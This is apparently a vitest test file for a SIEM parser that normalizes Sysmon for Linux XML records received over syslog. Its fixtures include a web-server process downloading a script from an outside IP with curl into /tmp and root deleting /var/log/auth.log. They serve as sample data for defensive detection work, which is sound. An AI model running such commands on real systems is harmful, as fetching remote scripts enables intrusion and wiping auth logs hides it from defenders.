import { describe, expect, it } from 'vitest';
import { createParser } from './registry';
import type { ParseResult } from './types';

/**
 * Records in the layout Sysmon for Linux writes to syslog (its manifest's
 * event fields: ProcessCreate 1, NetworkConnect 3, ServiceStateChange 4,
 * ProcessTerminate 5, FileCreate 11, ServiceConfigurationChange 16,
 * FileDelete 23), with values made up for these tests.
 */
const SYSTEM = (eventId: number, recordId: number): string =>
  '<System><Provider Name="Linux-Sysmon" Guid="{ff032593-a8d3-4f13-b0d6-01fc615a0f97}"/>' +
  `<EventID>${eventId}</EventID><Version>5</Version><Level>4</Level><Task>${eventId}</Task><Opcode>0</Opcode>` +
  '<Keywords>0x8000000000000000</Keywords><TimeCreated SystemTime="2026-11-23T10:15:42.123456000Z"/>' +
  `<EventRecordID>${recordId}</EventRecordID><Correlation/><Execution ProcessID="811" ThreadID="811"/>` +
  '<Channel>Linux-Sysmon/Operational</Channel><Computer>web-01</Computer><Security UserId="0"/></System>';

const data = (fields: Record<string, string>): string =>
  `<EventData>${Object.entries(fields)
    .map(([name, value]) => `<Data Name="${name}">${value}</Data>`)
    .join('')}</EventData>`;

const record = (eventId: number, fields: Record<string, string>): string => `<Event>${SYSTEM(eventId, 100 + eventId)}${data(fields)}</Event>`;

const PROCESS_CREATE = record(1, {
  RuleName: '-',
  UtcTime: '2026-11-23 10:15:42.125',
  ProcessGuid: '{3c1d7e0a-5f2b-6741-a8e0-0c4d2a1b0000}',
  ProcessId: '24817',
  Image: '/usr/bin/curl',
  FileVersion: '-',
  Description: '-',
  Product: '-',
  Company: '-',
  OriginalFileName: '-',
  CommandLine: 'curl -s http://198.51.100.23/x.sh -o /tmp/x.sh &amp;&amp; echo &quot;done&quot; &gt; /dev/null',
  CurrentDirectory: '/var/www/html',
  User: 'www-data',
  LogonGuid: '{3c1d7e0a-0000-0000-2100-000000000000}',
  LogonId: '33',
  TerminalSessionId: '4294967295',
  IntegrityLevel: 'no level',
  Hashes: '-',
  ParentProcessGuid: '{3c1d7e0a-5f2a-6741-1c32-6a55e0550000}',
  ParentProcessId: '24790',
  ParentImage: '/usr/bin/dash',
  ParentCommandLine: 'sh -c curl',
  ParentUser: 'www-data',
});

const NETWORK_CONNECT = record(3, {
  RuleName: '-',
  UtcTime: '2026-11-23 10:15:43.001',
  ProcessGuid: '{3c1d7e0a-5f2b-6741-a8e0-0c4d2a1b0000}',
  ProcessId: '24817',
  Image: '/usr/bin/curl',
  User: 'www-data',
  Protocol: 'tcp',
  Initiated: 'true',
  SourceIsIpv6: 'false',
  SourceIp: '10.20.0.5',
  SourceHostname: '-',
  SourcePort: '51544',
  SourcePortName: '-',
  DestinationIsIpv6: 'false',
  DestinationIp: '198.51.100.23',
  DestinationHostname: '-',
  DestinationPort: '80',
  DestinationPortName: 'http',
});

const PROCESS_TERMINATE = record(5, {
  RuleName: '-',
  UtcTime: '2026-11-23 10:15:44.310',
  ProcessGuid: '{3c1d7e0a-5f2b-6741-a8e0-0c4d2a1b0000}',
  ProcessId: '24817',
  Image: '/usr/bin/curl',
  User: 'www-data',
});

const FILE_CREATE = record(11, {
  RuleName: '-',
  UtcTime: '2026-11-23 10:15:43.900',
  ProcessGuid: '{3c1d7e0a-5f2b-6741-a8e0-0c4d2a1b0000}',
  ProcessId: '24817',
  Image: '/usr/bin/curl',
  TargetFilename: '/tmp/x.sh',
  CreationUtcTime: '2026-11-23 10:15:43.900',
  User: 'www-data',
});

const FILE_DELETE = record(23, {
  RuleName: '-',
  UtcTime: '2026-11-23 10:16:02.417',
  ProcessGuid: '{3c1d7e0a-5f40-6741-30c1-b1f0a3550000}',
  ProcessId: '24901',
  User: 'root',
  Image: '/usr/bin/rm',
  TargetFilename: '/var/log/auth.log',
  Hashes: '-',
  IsExecutable: '-',
  Archived: 'false',
});

const STATE_CHANGE = record(4, { UtcTime: '2026-11-23 10:00:00.000', State: 'Started', Version: '1.3.5', SchemaVersion: '4.81' });

const CONFIG_CHANGE = record(16, { UtcTime: '2026-11-23 10:00:00.010', Configuration: '/opt/sysmon/config.xml', ConfigurationFileHash: '-' });

const syslog = createParser('syslog');
const standalone = createParser('sysmon_linux');
const payload = (line: string) => ({ payload: Buffer.from(line), receivedAt: '2026-11-23T10:20:00.000Z', input: 'syslog_udp', sourceAddress: '10.20.0.5' });
const viaSyslog = (body: string, program = 'sysmon'): ParseResult => syslog.parse(payload(`<14>Nov 23 10:15:42 web-01 ${program}: ${body}`));
const event = (result: ParseResult) => {
  if (!result.ok) throw new Error(result.error.message);
  return result.event;
};

describe('sysmon_linux', () => {
  it('maps a ProcessCreate (1) record like Windows Sysmon, with the raw event data and host.os.type linux', () => {
    const parsed = event(viaSyslog(PROCESS_CREATE));
    expect(parsed).toMatchObject({
      '@timestamp': '2026-11-23T10:15:42.123Z',
      host: { name: 'web-01', os: { type: 'linux' } },
      event: { dataset: 'sysmon_linux', code: '1', provider: 'Linux-Sysmon', category: ['process'], type: ['start'] },
      winlog: {
        channel: 'Linux-Sysmon/Operational',
        event_id: '1',
        record_id: '101',
        user: { identifier: '0' },
        event_data: { Image: '/usr/bin/curl', ParentImage: '/usr/bin/dash', LogonId: '33', User: 'www-data' },
      },
      process: {
        executable: '/usr/bin/curl',
        name: 'curl',
        pid: 24817,
        command_line: 'curl -s http://198.51.100.23/x.sh -o /tmp/x.sh && echo "done" > /dev/null',
        working_directory: '/var/www/html',
        parent: { executable: '/usr/bin/dash', name: 'dash', pid: 24790, command_line: 'sh -c curl' },
      },
      user: { name: 'www-data' },
    });
    expect((parsed.process as Record<string, unknown>).pe).toBeUndefined();
  });

  it('maps a NetworkConnect (3) record to source, destination and transport', () => {
    expect(event(viaSyslog(NETWORK_CONNECT))).toMatchObject({
      event: { dataset: 'sysmon_linux', code: '3', category: ['network'] },
      source: { ip: '10.20.0.5', port: 51544 },
      destination: { ip: '198.51.100.23', port: 80 },
      network: { transport: 'tcp', direction: 'egress', type: 'ipv4' },
      process: { executable: '/usr/bin/curl', name: 'curl' },
    });
  });

  it('maps ProcessTerminate (5), FileCreate (11) and FileDelete (23)', () => {
    expect(event(viaSyslog(PROCESS_TERMINATE))).toMatchObject({ event: { code: '5', category: ['process'], type: ['end'] }, process: { pid: 24817, name: 'curl' } });
    expect(event(viaSyslog(FILE_CREATE))).toMatchObject({
      event: { code: '11', category: ['file'], type: ['creation'] },
      file: { path: '/tmp/x.sh', name: 'x.sh', directory: '/tmp', extension: 'sh' },
    });
    expect(event(viaSyslog(FILE_DELETE))).toMatchObject({
      event: { code: '23', category: ['file'], type: ['deletion'] },
      file: { path: '/var/log/auth.log', name: 'auth.log', directory: '/var/log' },
      user: { name: 'root' },
      winlog: { event_data: { Archived: 'false' } },
    });
  });

  it('keeps the service records (4, 16) with their event data', () => {
    expect(event(viaSyslog(STATE_CHANGE))).toMatchObject({ event: { code: '4' }, winlog: { event_data: { State: 'Started', SchemaVersion: '4.81' } } });
    expect(event(viaSyslog(CONFIG_CHANGE))).toMatchObject({ event: { code: '16' }, winlog: { event_data: { Configuration: '/opt/sysmon/config.xml' } } });
  });

  it('reads an <Event> body whatever the program, and over RFC 5424', () => {
    expect(event(viaSyslog(FILE_CREATE, 'logger'))).toMatchObject({ event: { dataset: 'sysmon_linux', code: '11' } });
    const rfc5424 = event(syslog.parse(payload(`<14>1 2026-11-23T10:15:42.123Z web-01 sysmon 811 - - ${PROCESS_CREATE}`)));
    expect(rfc5424).toMatchObject({ event: { dataset: 'sysmon_linux' }, process: { name: 'curl' } });
  });

  it('leaves a sysmon start-up line that is not a record as plain syslog', () => {
    const parsed = event(viaSyslog('Sysmon v1.3.5 - Monitors system events'));
    expect(parsed.event.dataset).not.toBe('sysmon_linux');
    expect(parsed.winlog).toBeUndefined();
  });

  it('parses the bare record as a parser of its own', () => {
    expect(event(standalone.parse(payload(NETWORK_CONNECT)))).toMatchObject({ event: { dataset: 'sysmon_linux' }, destination: { port: 80 } });
  });

  const malformed: ReadonlyArray<[string, string, RegExp]> = [
    ['a record cut short', PROCESS_CREATE.slice(0, 700), /ends inside a tag|is not closed/],
    ['a record cut inside a value', PROCESS_CREATE.slice(0, 645), /is not closed/],
    ['mismatched end tags', record(1, { Image: '/usr/bin/id' }).replace('</EventData>', '</EventDatum>'), /closes <EventData>/],
    ['an unknown entity', record(1, { CommandLine: 'echo &nbsp;' }), /unknown character reference "&nbsp;"/],
    ['CDATA', record(1, { CommandLine: '<![CDATA[id]]>' }), /CDATA/],
    ['elements nested too deep', record(1, { Image: '<b><i>x</i></b>' }), /deeper than 3/],
    ['no System section', `<Event>${data({ Image: '/usr/bin/id' })}</Event>`, /no <System>/],
    ['no EventID', `<Event><System><Channel>Linux-Sysmon/Operational</Channel></System></Event>`, /no <EventID>/],
    ['text after the record', `${record(5, { Image: '/usr/bin/id' })} trailing`, /text after the root element/],
    ['an attribute without quotes', '<Event><System><Provider Name=Linux-Sysmon/></System></Event>', /quoted value/],
  ];

  for (const [what, line, reason] of malformed) {
    it(`sends ${what} to the dead letters with the reason, as a parser of its own`, () => {
      const result = standalone.parse(payload(line));
      expect(result.ok).toBe(false);
      if (result.ok) return;
      expect(result.error).toMatchObject({ code: 'SIEM_PARSE_BAD_EVENT_XML', parser: 'sysmon_linux', retryable: false });
      expect(result.error.message).toMatch(reason);
    });
  }

  it('keeps a broken record sent over syslog, tagged with the failure and its reason', () => {
    const parsed = event(viaSyslog(PROCESS_CREATE.slice(0, 700)));
    expect(parsed.tags).toContain('sysmon_linux_parse_failure');
    expect(parsed.error).toMatchObject({ code: 'SIEM_PARSE_BAD_EVENT_XML' });
    expect(parsed.host).toMatchObject({ name: 'web-01' });
  });

  it('refuses a line that is not a Sysmon record, as a parser of its own', () => {
    const result = standalone.parse(payload('Nov 23 10:15:42 web-01 sshd[1]: Accepted publickey for root'));
    expect(result.ok ? undefined : result.error.code).toBe('SIEM_PARSE_NO_MATCH');
  });

  it('ignores event data that would reach an object prototype', () => {
    const parsed = event(standalone.parse(payload(record(1, { __proto__: 'x', Image: '/usr/bin/id' } as Record<string, string>))));
    expect(Object.getPrototypeOf((parsed.winlog as { event_data: object }).event_data)).toBe(Object.prototype);
  });
});
